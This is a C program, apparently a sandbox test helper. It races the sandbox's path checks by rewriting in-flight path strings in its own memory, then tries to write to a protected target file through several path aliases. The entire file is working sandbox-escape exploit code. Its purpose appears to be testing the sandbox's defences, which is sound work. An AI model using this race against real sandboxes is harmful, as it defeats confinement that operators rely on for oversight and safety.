/*
 * attack-view-strings.c - a command that rewrites the strings of its own calls while they are made for it.
 *
 * usage: attack-view-strings TARGET
 *
 * One thread looks through the stack of the first thread and through private mappings for paths that are not
 * the program's own and writes TARGET over them. Two others execute and enter, again and again, what only
 * this run has made, and then write to TARGET by every name that they have for it. The status is 0 when
 * strings were met and rewritten; what became of TARGET is for the caller to look at.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <spawn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define STACK_SEEN (128u << 10)
#define MAPPED_MAX (256u << 10)
#define WANTED	   20
#define LONGEST_S  120

static const char *target;
static char top[4096];
static volatile unsigned int rewritten;
static volatile int over;
static char *stack;

/* Somebody else's paths in [from, to): the directory that stands behind the view is told by its name. */
static void rewrite(unsigned long from, unsigned long to)
{
	char copy[MAPPED_MAX + 16]; /* on a stack that is not looked through */
	struct iovec local = {copy, to - from}, remote = {(void *)from, to - from};
	ssize_t n = process_vm_readv(getpid(), &local, 1, &remote, 1, 0);

	for (ssize_t i = 0; i + 14 < n; i++) {
		char *at = (char *)from + i;

		if (memcmp(copy + i, "/sandlock-view-", 15) != 0)
			continue;
		while (i > 0 && copy[i - 1] && (copy[i - 1] == '/' || copy[i - 1] > ' '))
			i--, at--;
		if (at + strlen(target) + 1 > (char *)to)
			return;
		memcpy(at, target, strlen(target) + 1);
		rewritten++;
		i += (ssize_t)strlen(target) + 16;
	}
}

static void *attack(void *arg)
{
	while (!over) {
		char line[512], rights[8], path[256];
		unsigned long from, to;
		FILE *maps = fopen("/proc/self/maps", "re");

		while (maps && fgets(line, sizeof(line), maps)) {
			path[0] = '\0';
			if (sscanf(line, "%lx-%lx %7s %*s %*s %*s %255s", &from, &to, rights, path) < 3 ||
			    path[0] || strcmp(rights, "rw-p") != 0)
				continue;
			for (int again = 0; again < 20 && to - from <= MAPPED_MAX; again++)
				rewrite(from, to);
		}
		if (maps)
			fclose(maps);
		for (int again = 0; again < 200; again++)
			rewrite((unsigned long)stack - STACK_SEEN, (unsigned long)stack);
	}
	return arg;
}

/* Whatever this is now, and wherever we are. */
static void write_all(void)
{
	static const char *const names[] = {"target", "../target", "d/../target", "/proc/self/cwd/target"};

	for (size_t i = 0; i <= sizeof(names) / sizeof(names[0]); i++) {
		const char *name = i < sizeof(names) / sizeof(names[0]) ? names[i] : target;
		int fd = open(name, O_WRONLY | O_TRUNC | O_CLOEXEC);

		if (fd < 0)
			continue;
		if (write(fd, "overwritten", 11) != 11 || fchmod(fd, 0700) < 0)
			perror("write");
		close(fd);
	}
}

static void make_and_use(const char *dir)
{
	char script[64];
	char *const argv[] = {script, NULL};
	pid_t pid;
	int fd, status;

	snprintf(script, sizeof(script), "%s/s", dir);
	if (chdir(top) < 0 || (mkdir(dir, 0755) < 0 && access(dir, F_OK) < 0))
		return;
	fd = open(script, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	if (fd >= 0 && write(fd, "#!/bin/sh\nexit 0\n", 17) != 17)
		perror("script");
	close(fd);
	if (posix_spawn(&pid, script, NULL, NULL, argv, environ) == 0)
		waitpid(pid, &status, 0);
	if (chdir(dir) == 0)
		write_all();
	if (chdir(top) == 0)
		write_all();
}

static void *use_often(void *arg)
{
	while (!over)
		make_and_use("e");
	return arg;
}

int main(int argc, char **argv)
{
	char here;
	pthread_t attacker, other;
	time_t end = time(NULL) + LONGEST_S;

	if (argc != 2 || !getcwd(top, sizeof(top)))
		return 2;
	target = argv[1];
	stack = &here;
	if (pthread_create(&attacker, NULL, attack, NULL) || pthread_create(&other, NULL, use_often, NULL))
		return 2;
	for (int i = 0; (i < 50 || rewritten < WANTED) && time(NULL) < end; i++)
		make_and_use("d");
	over = 1;
	pthread_join(attacker, NULL);
	pthread_join(other, NULL);
	printf("rewritten: %u\n", rewritten);
	return rewritten >= WANTED ? 0 : 1;
}
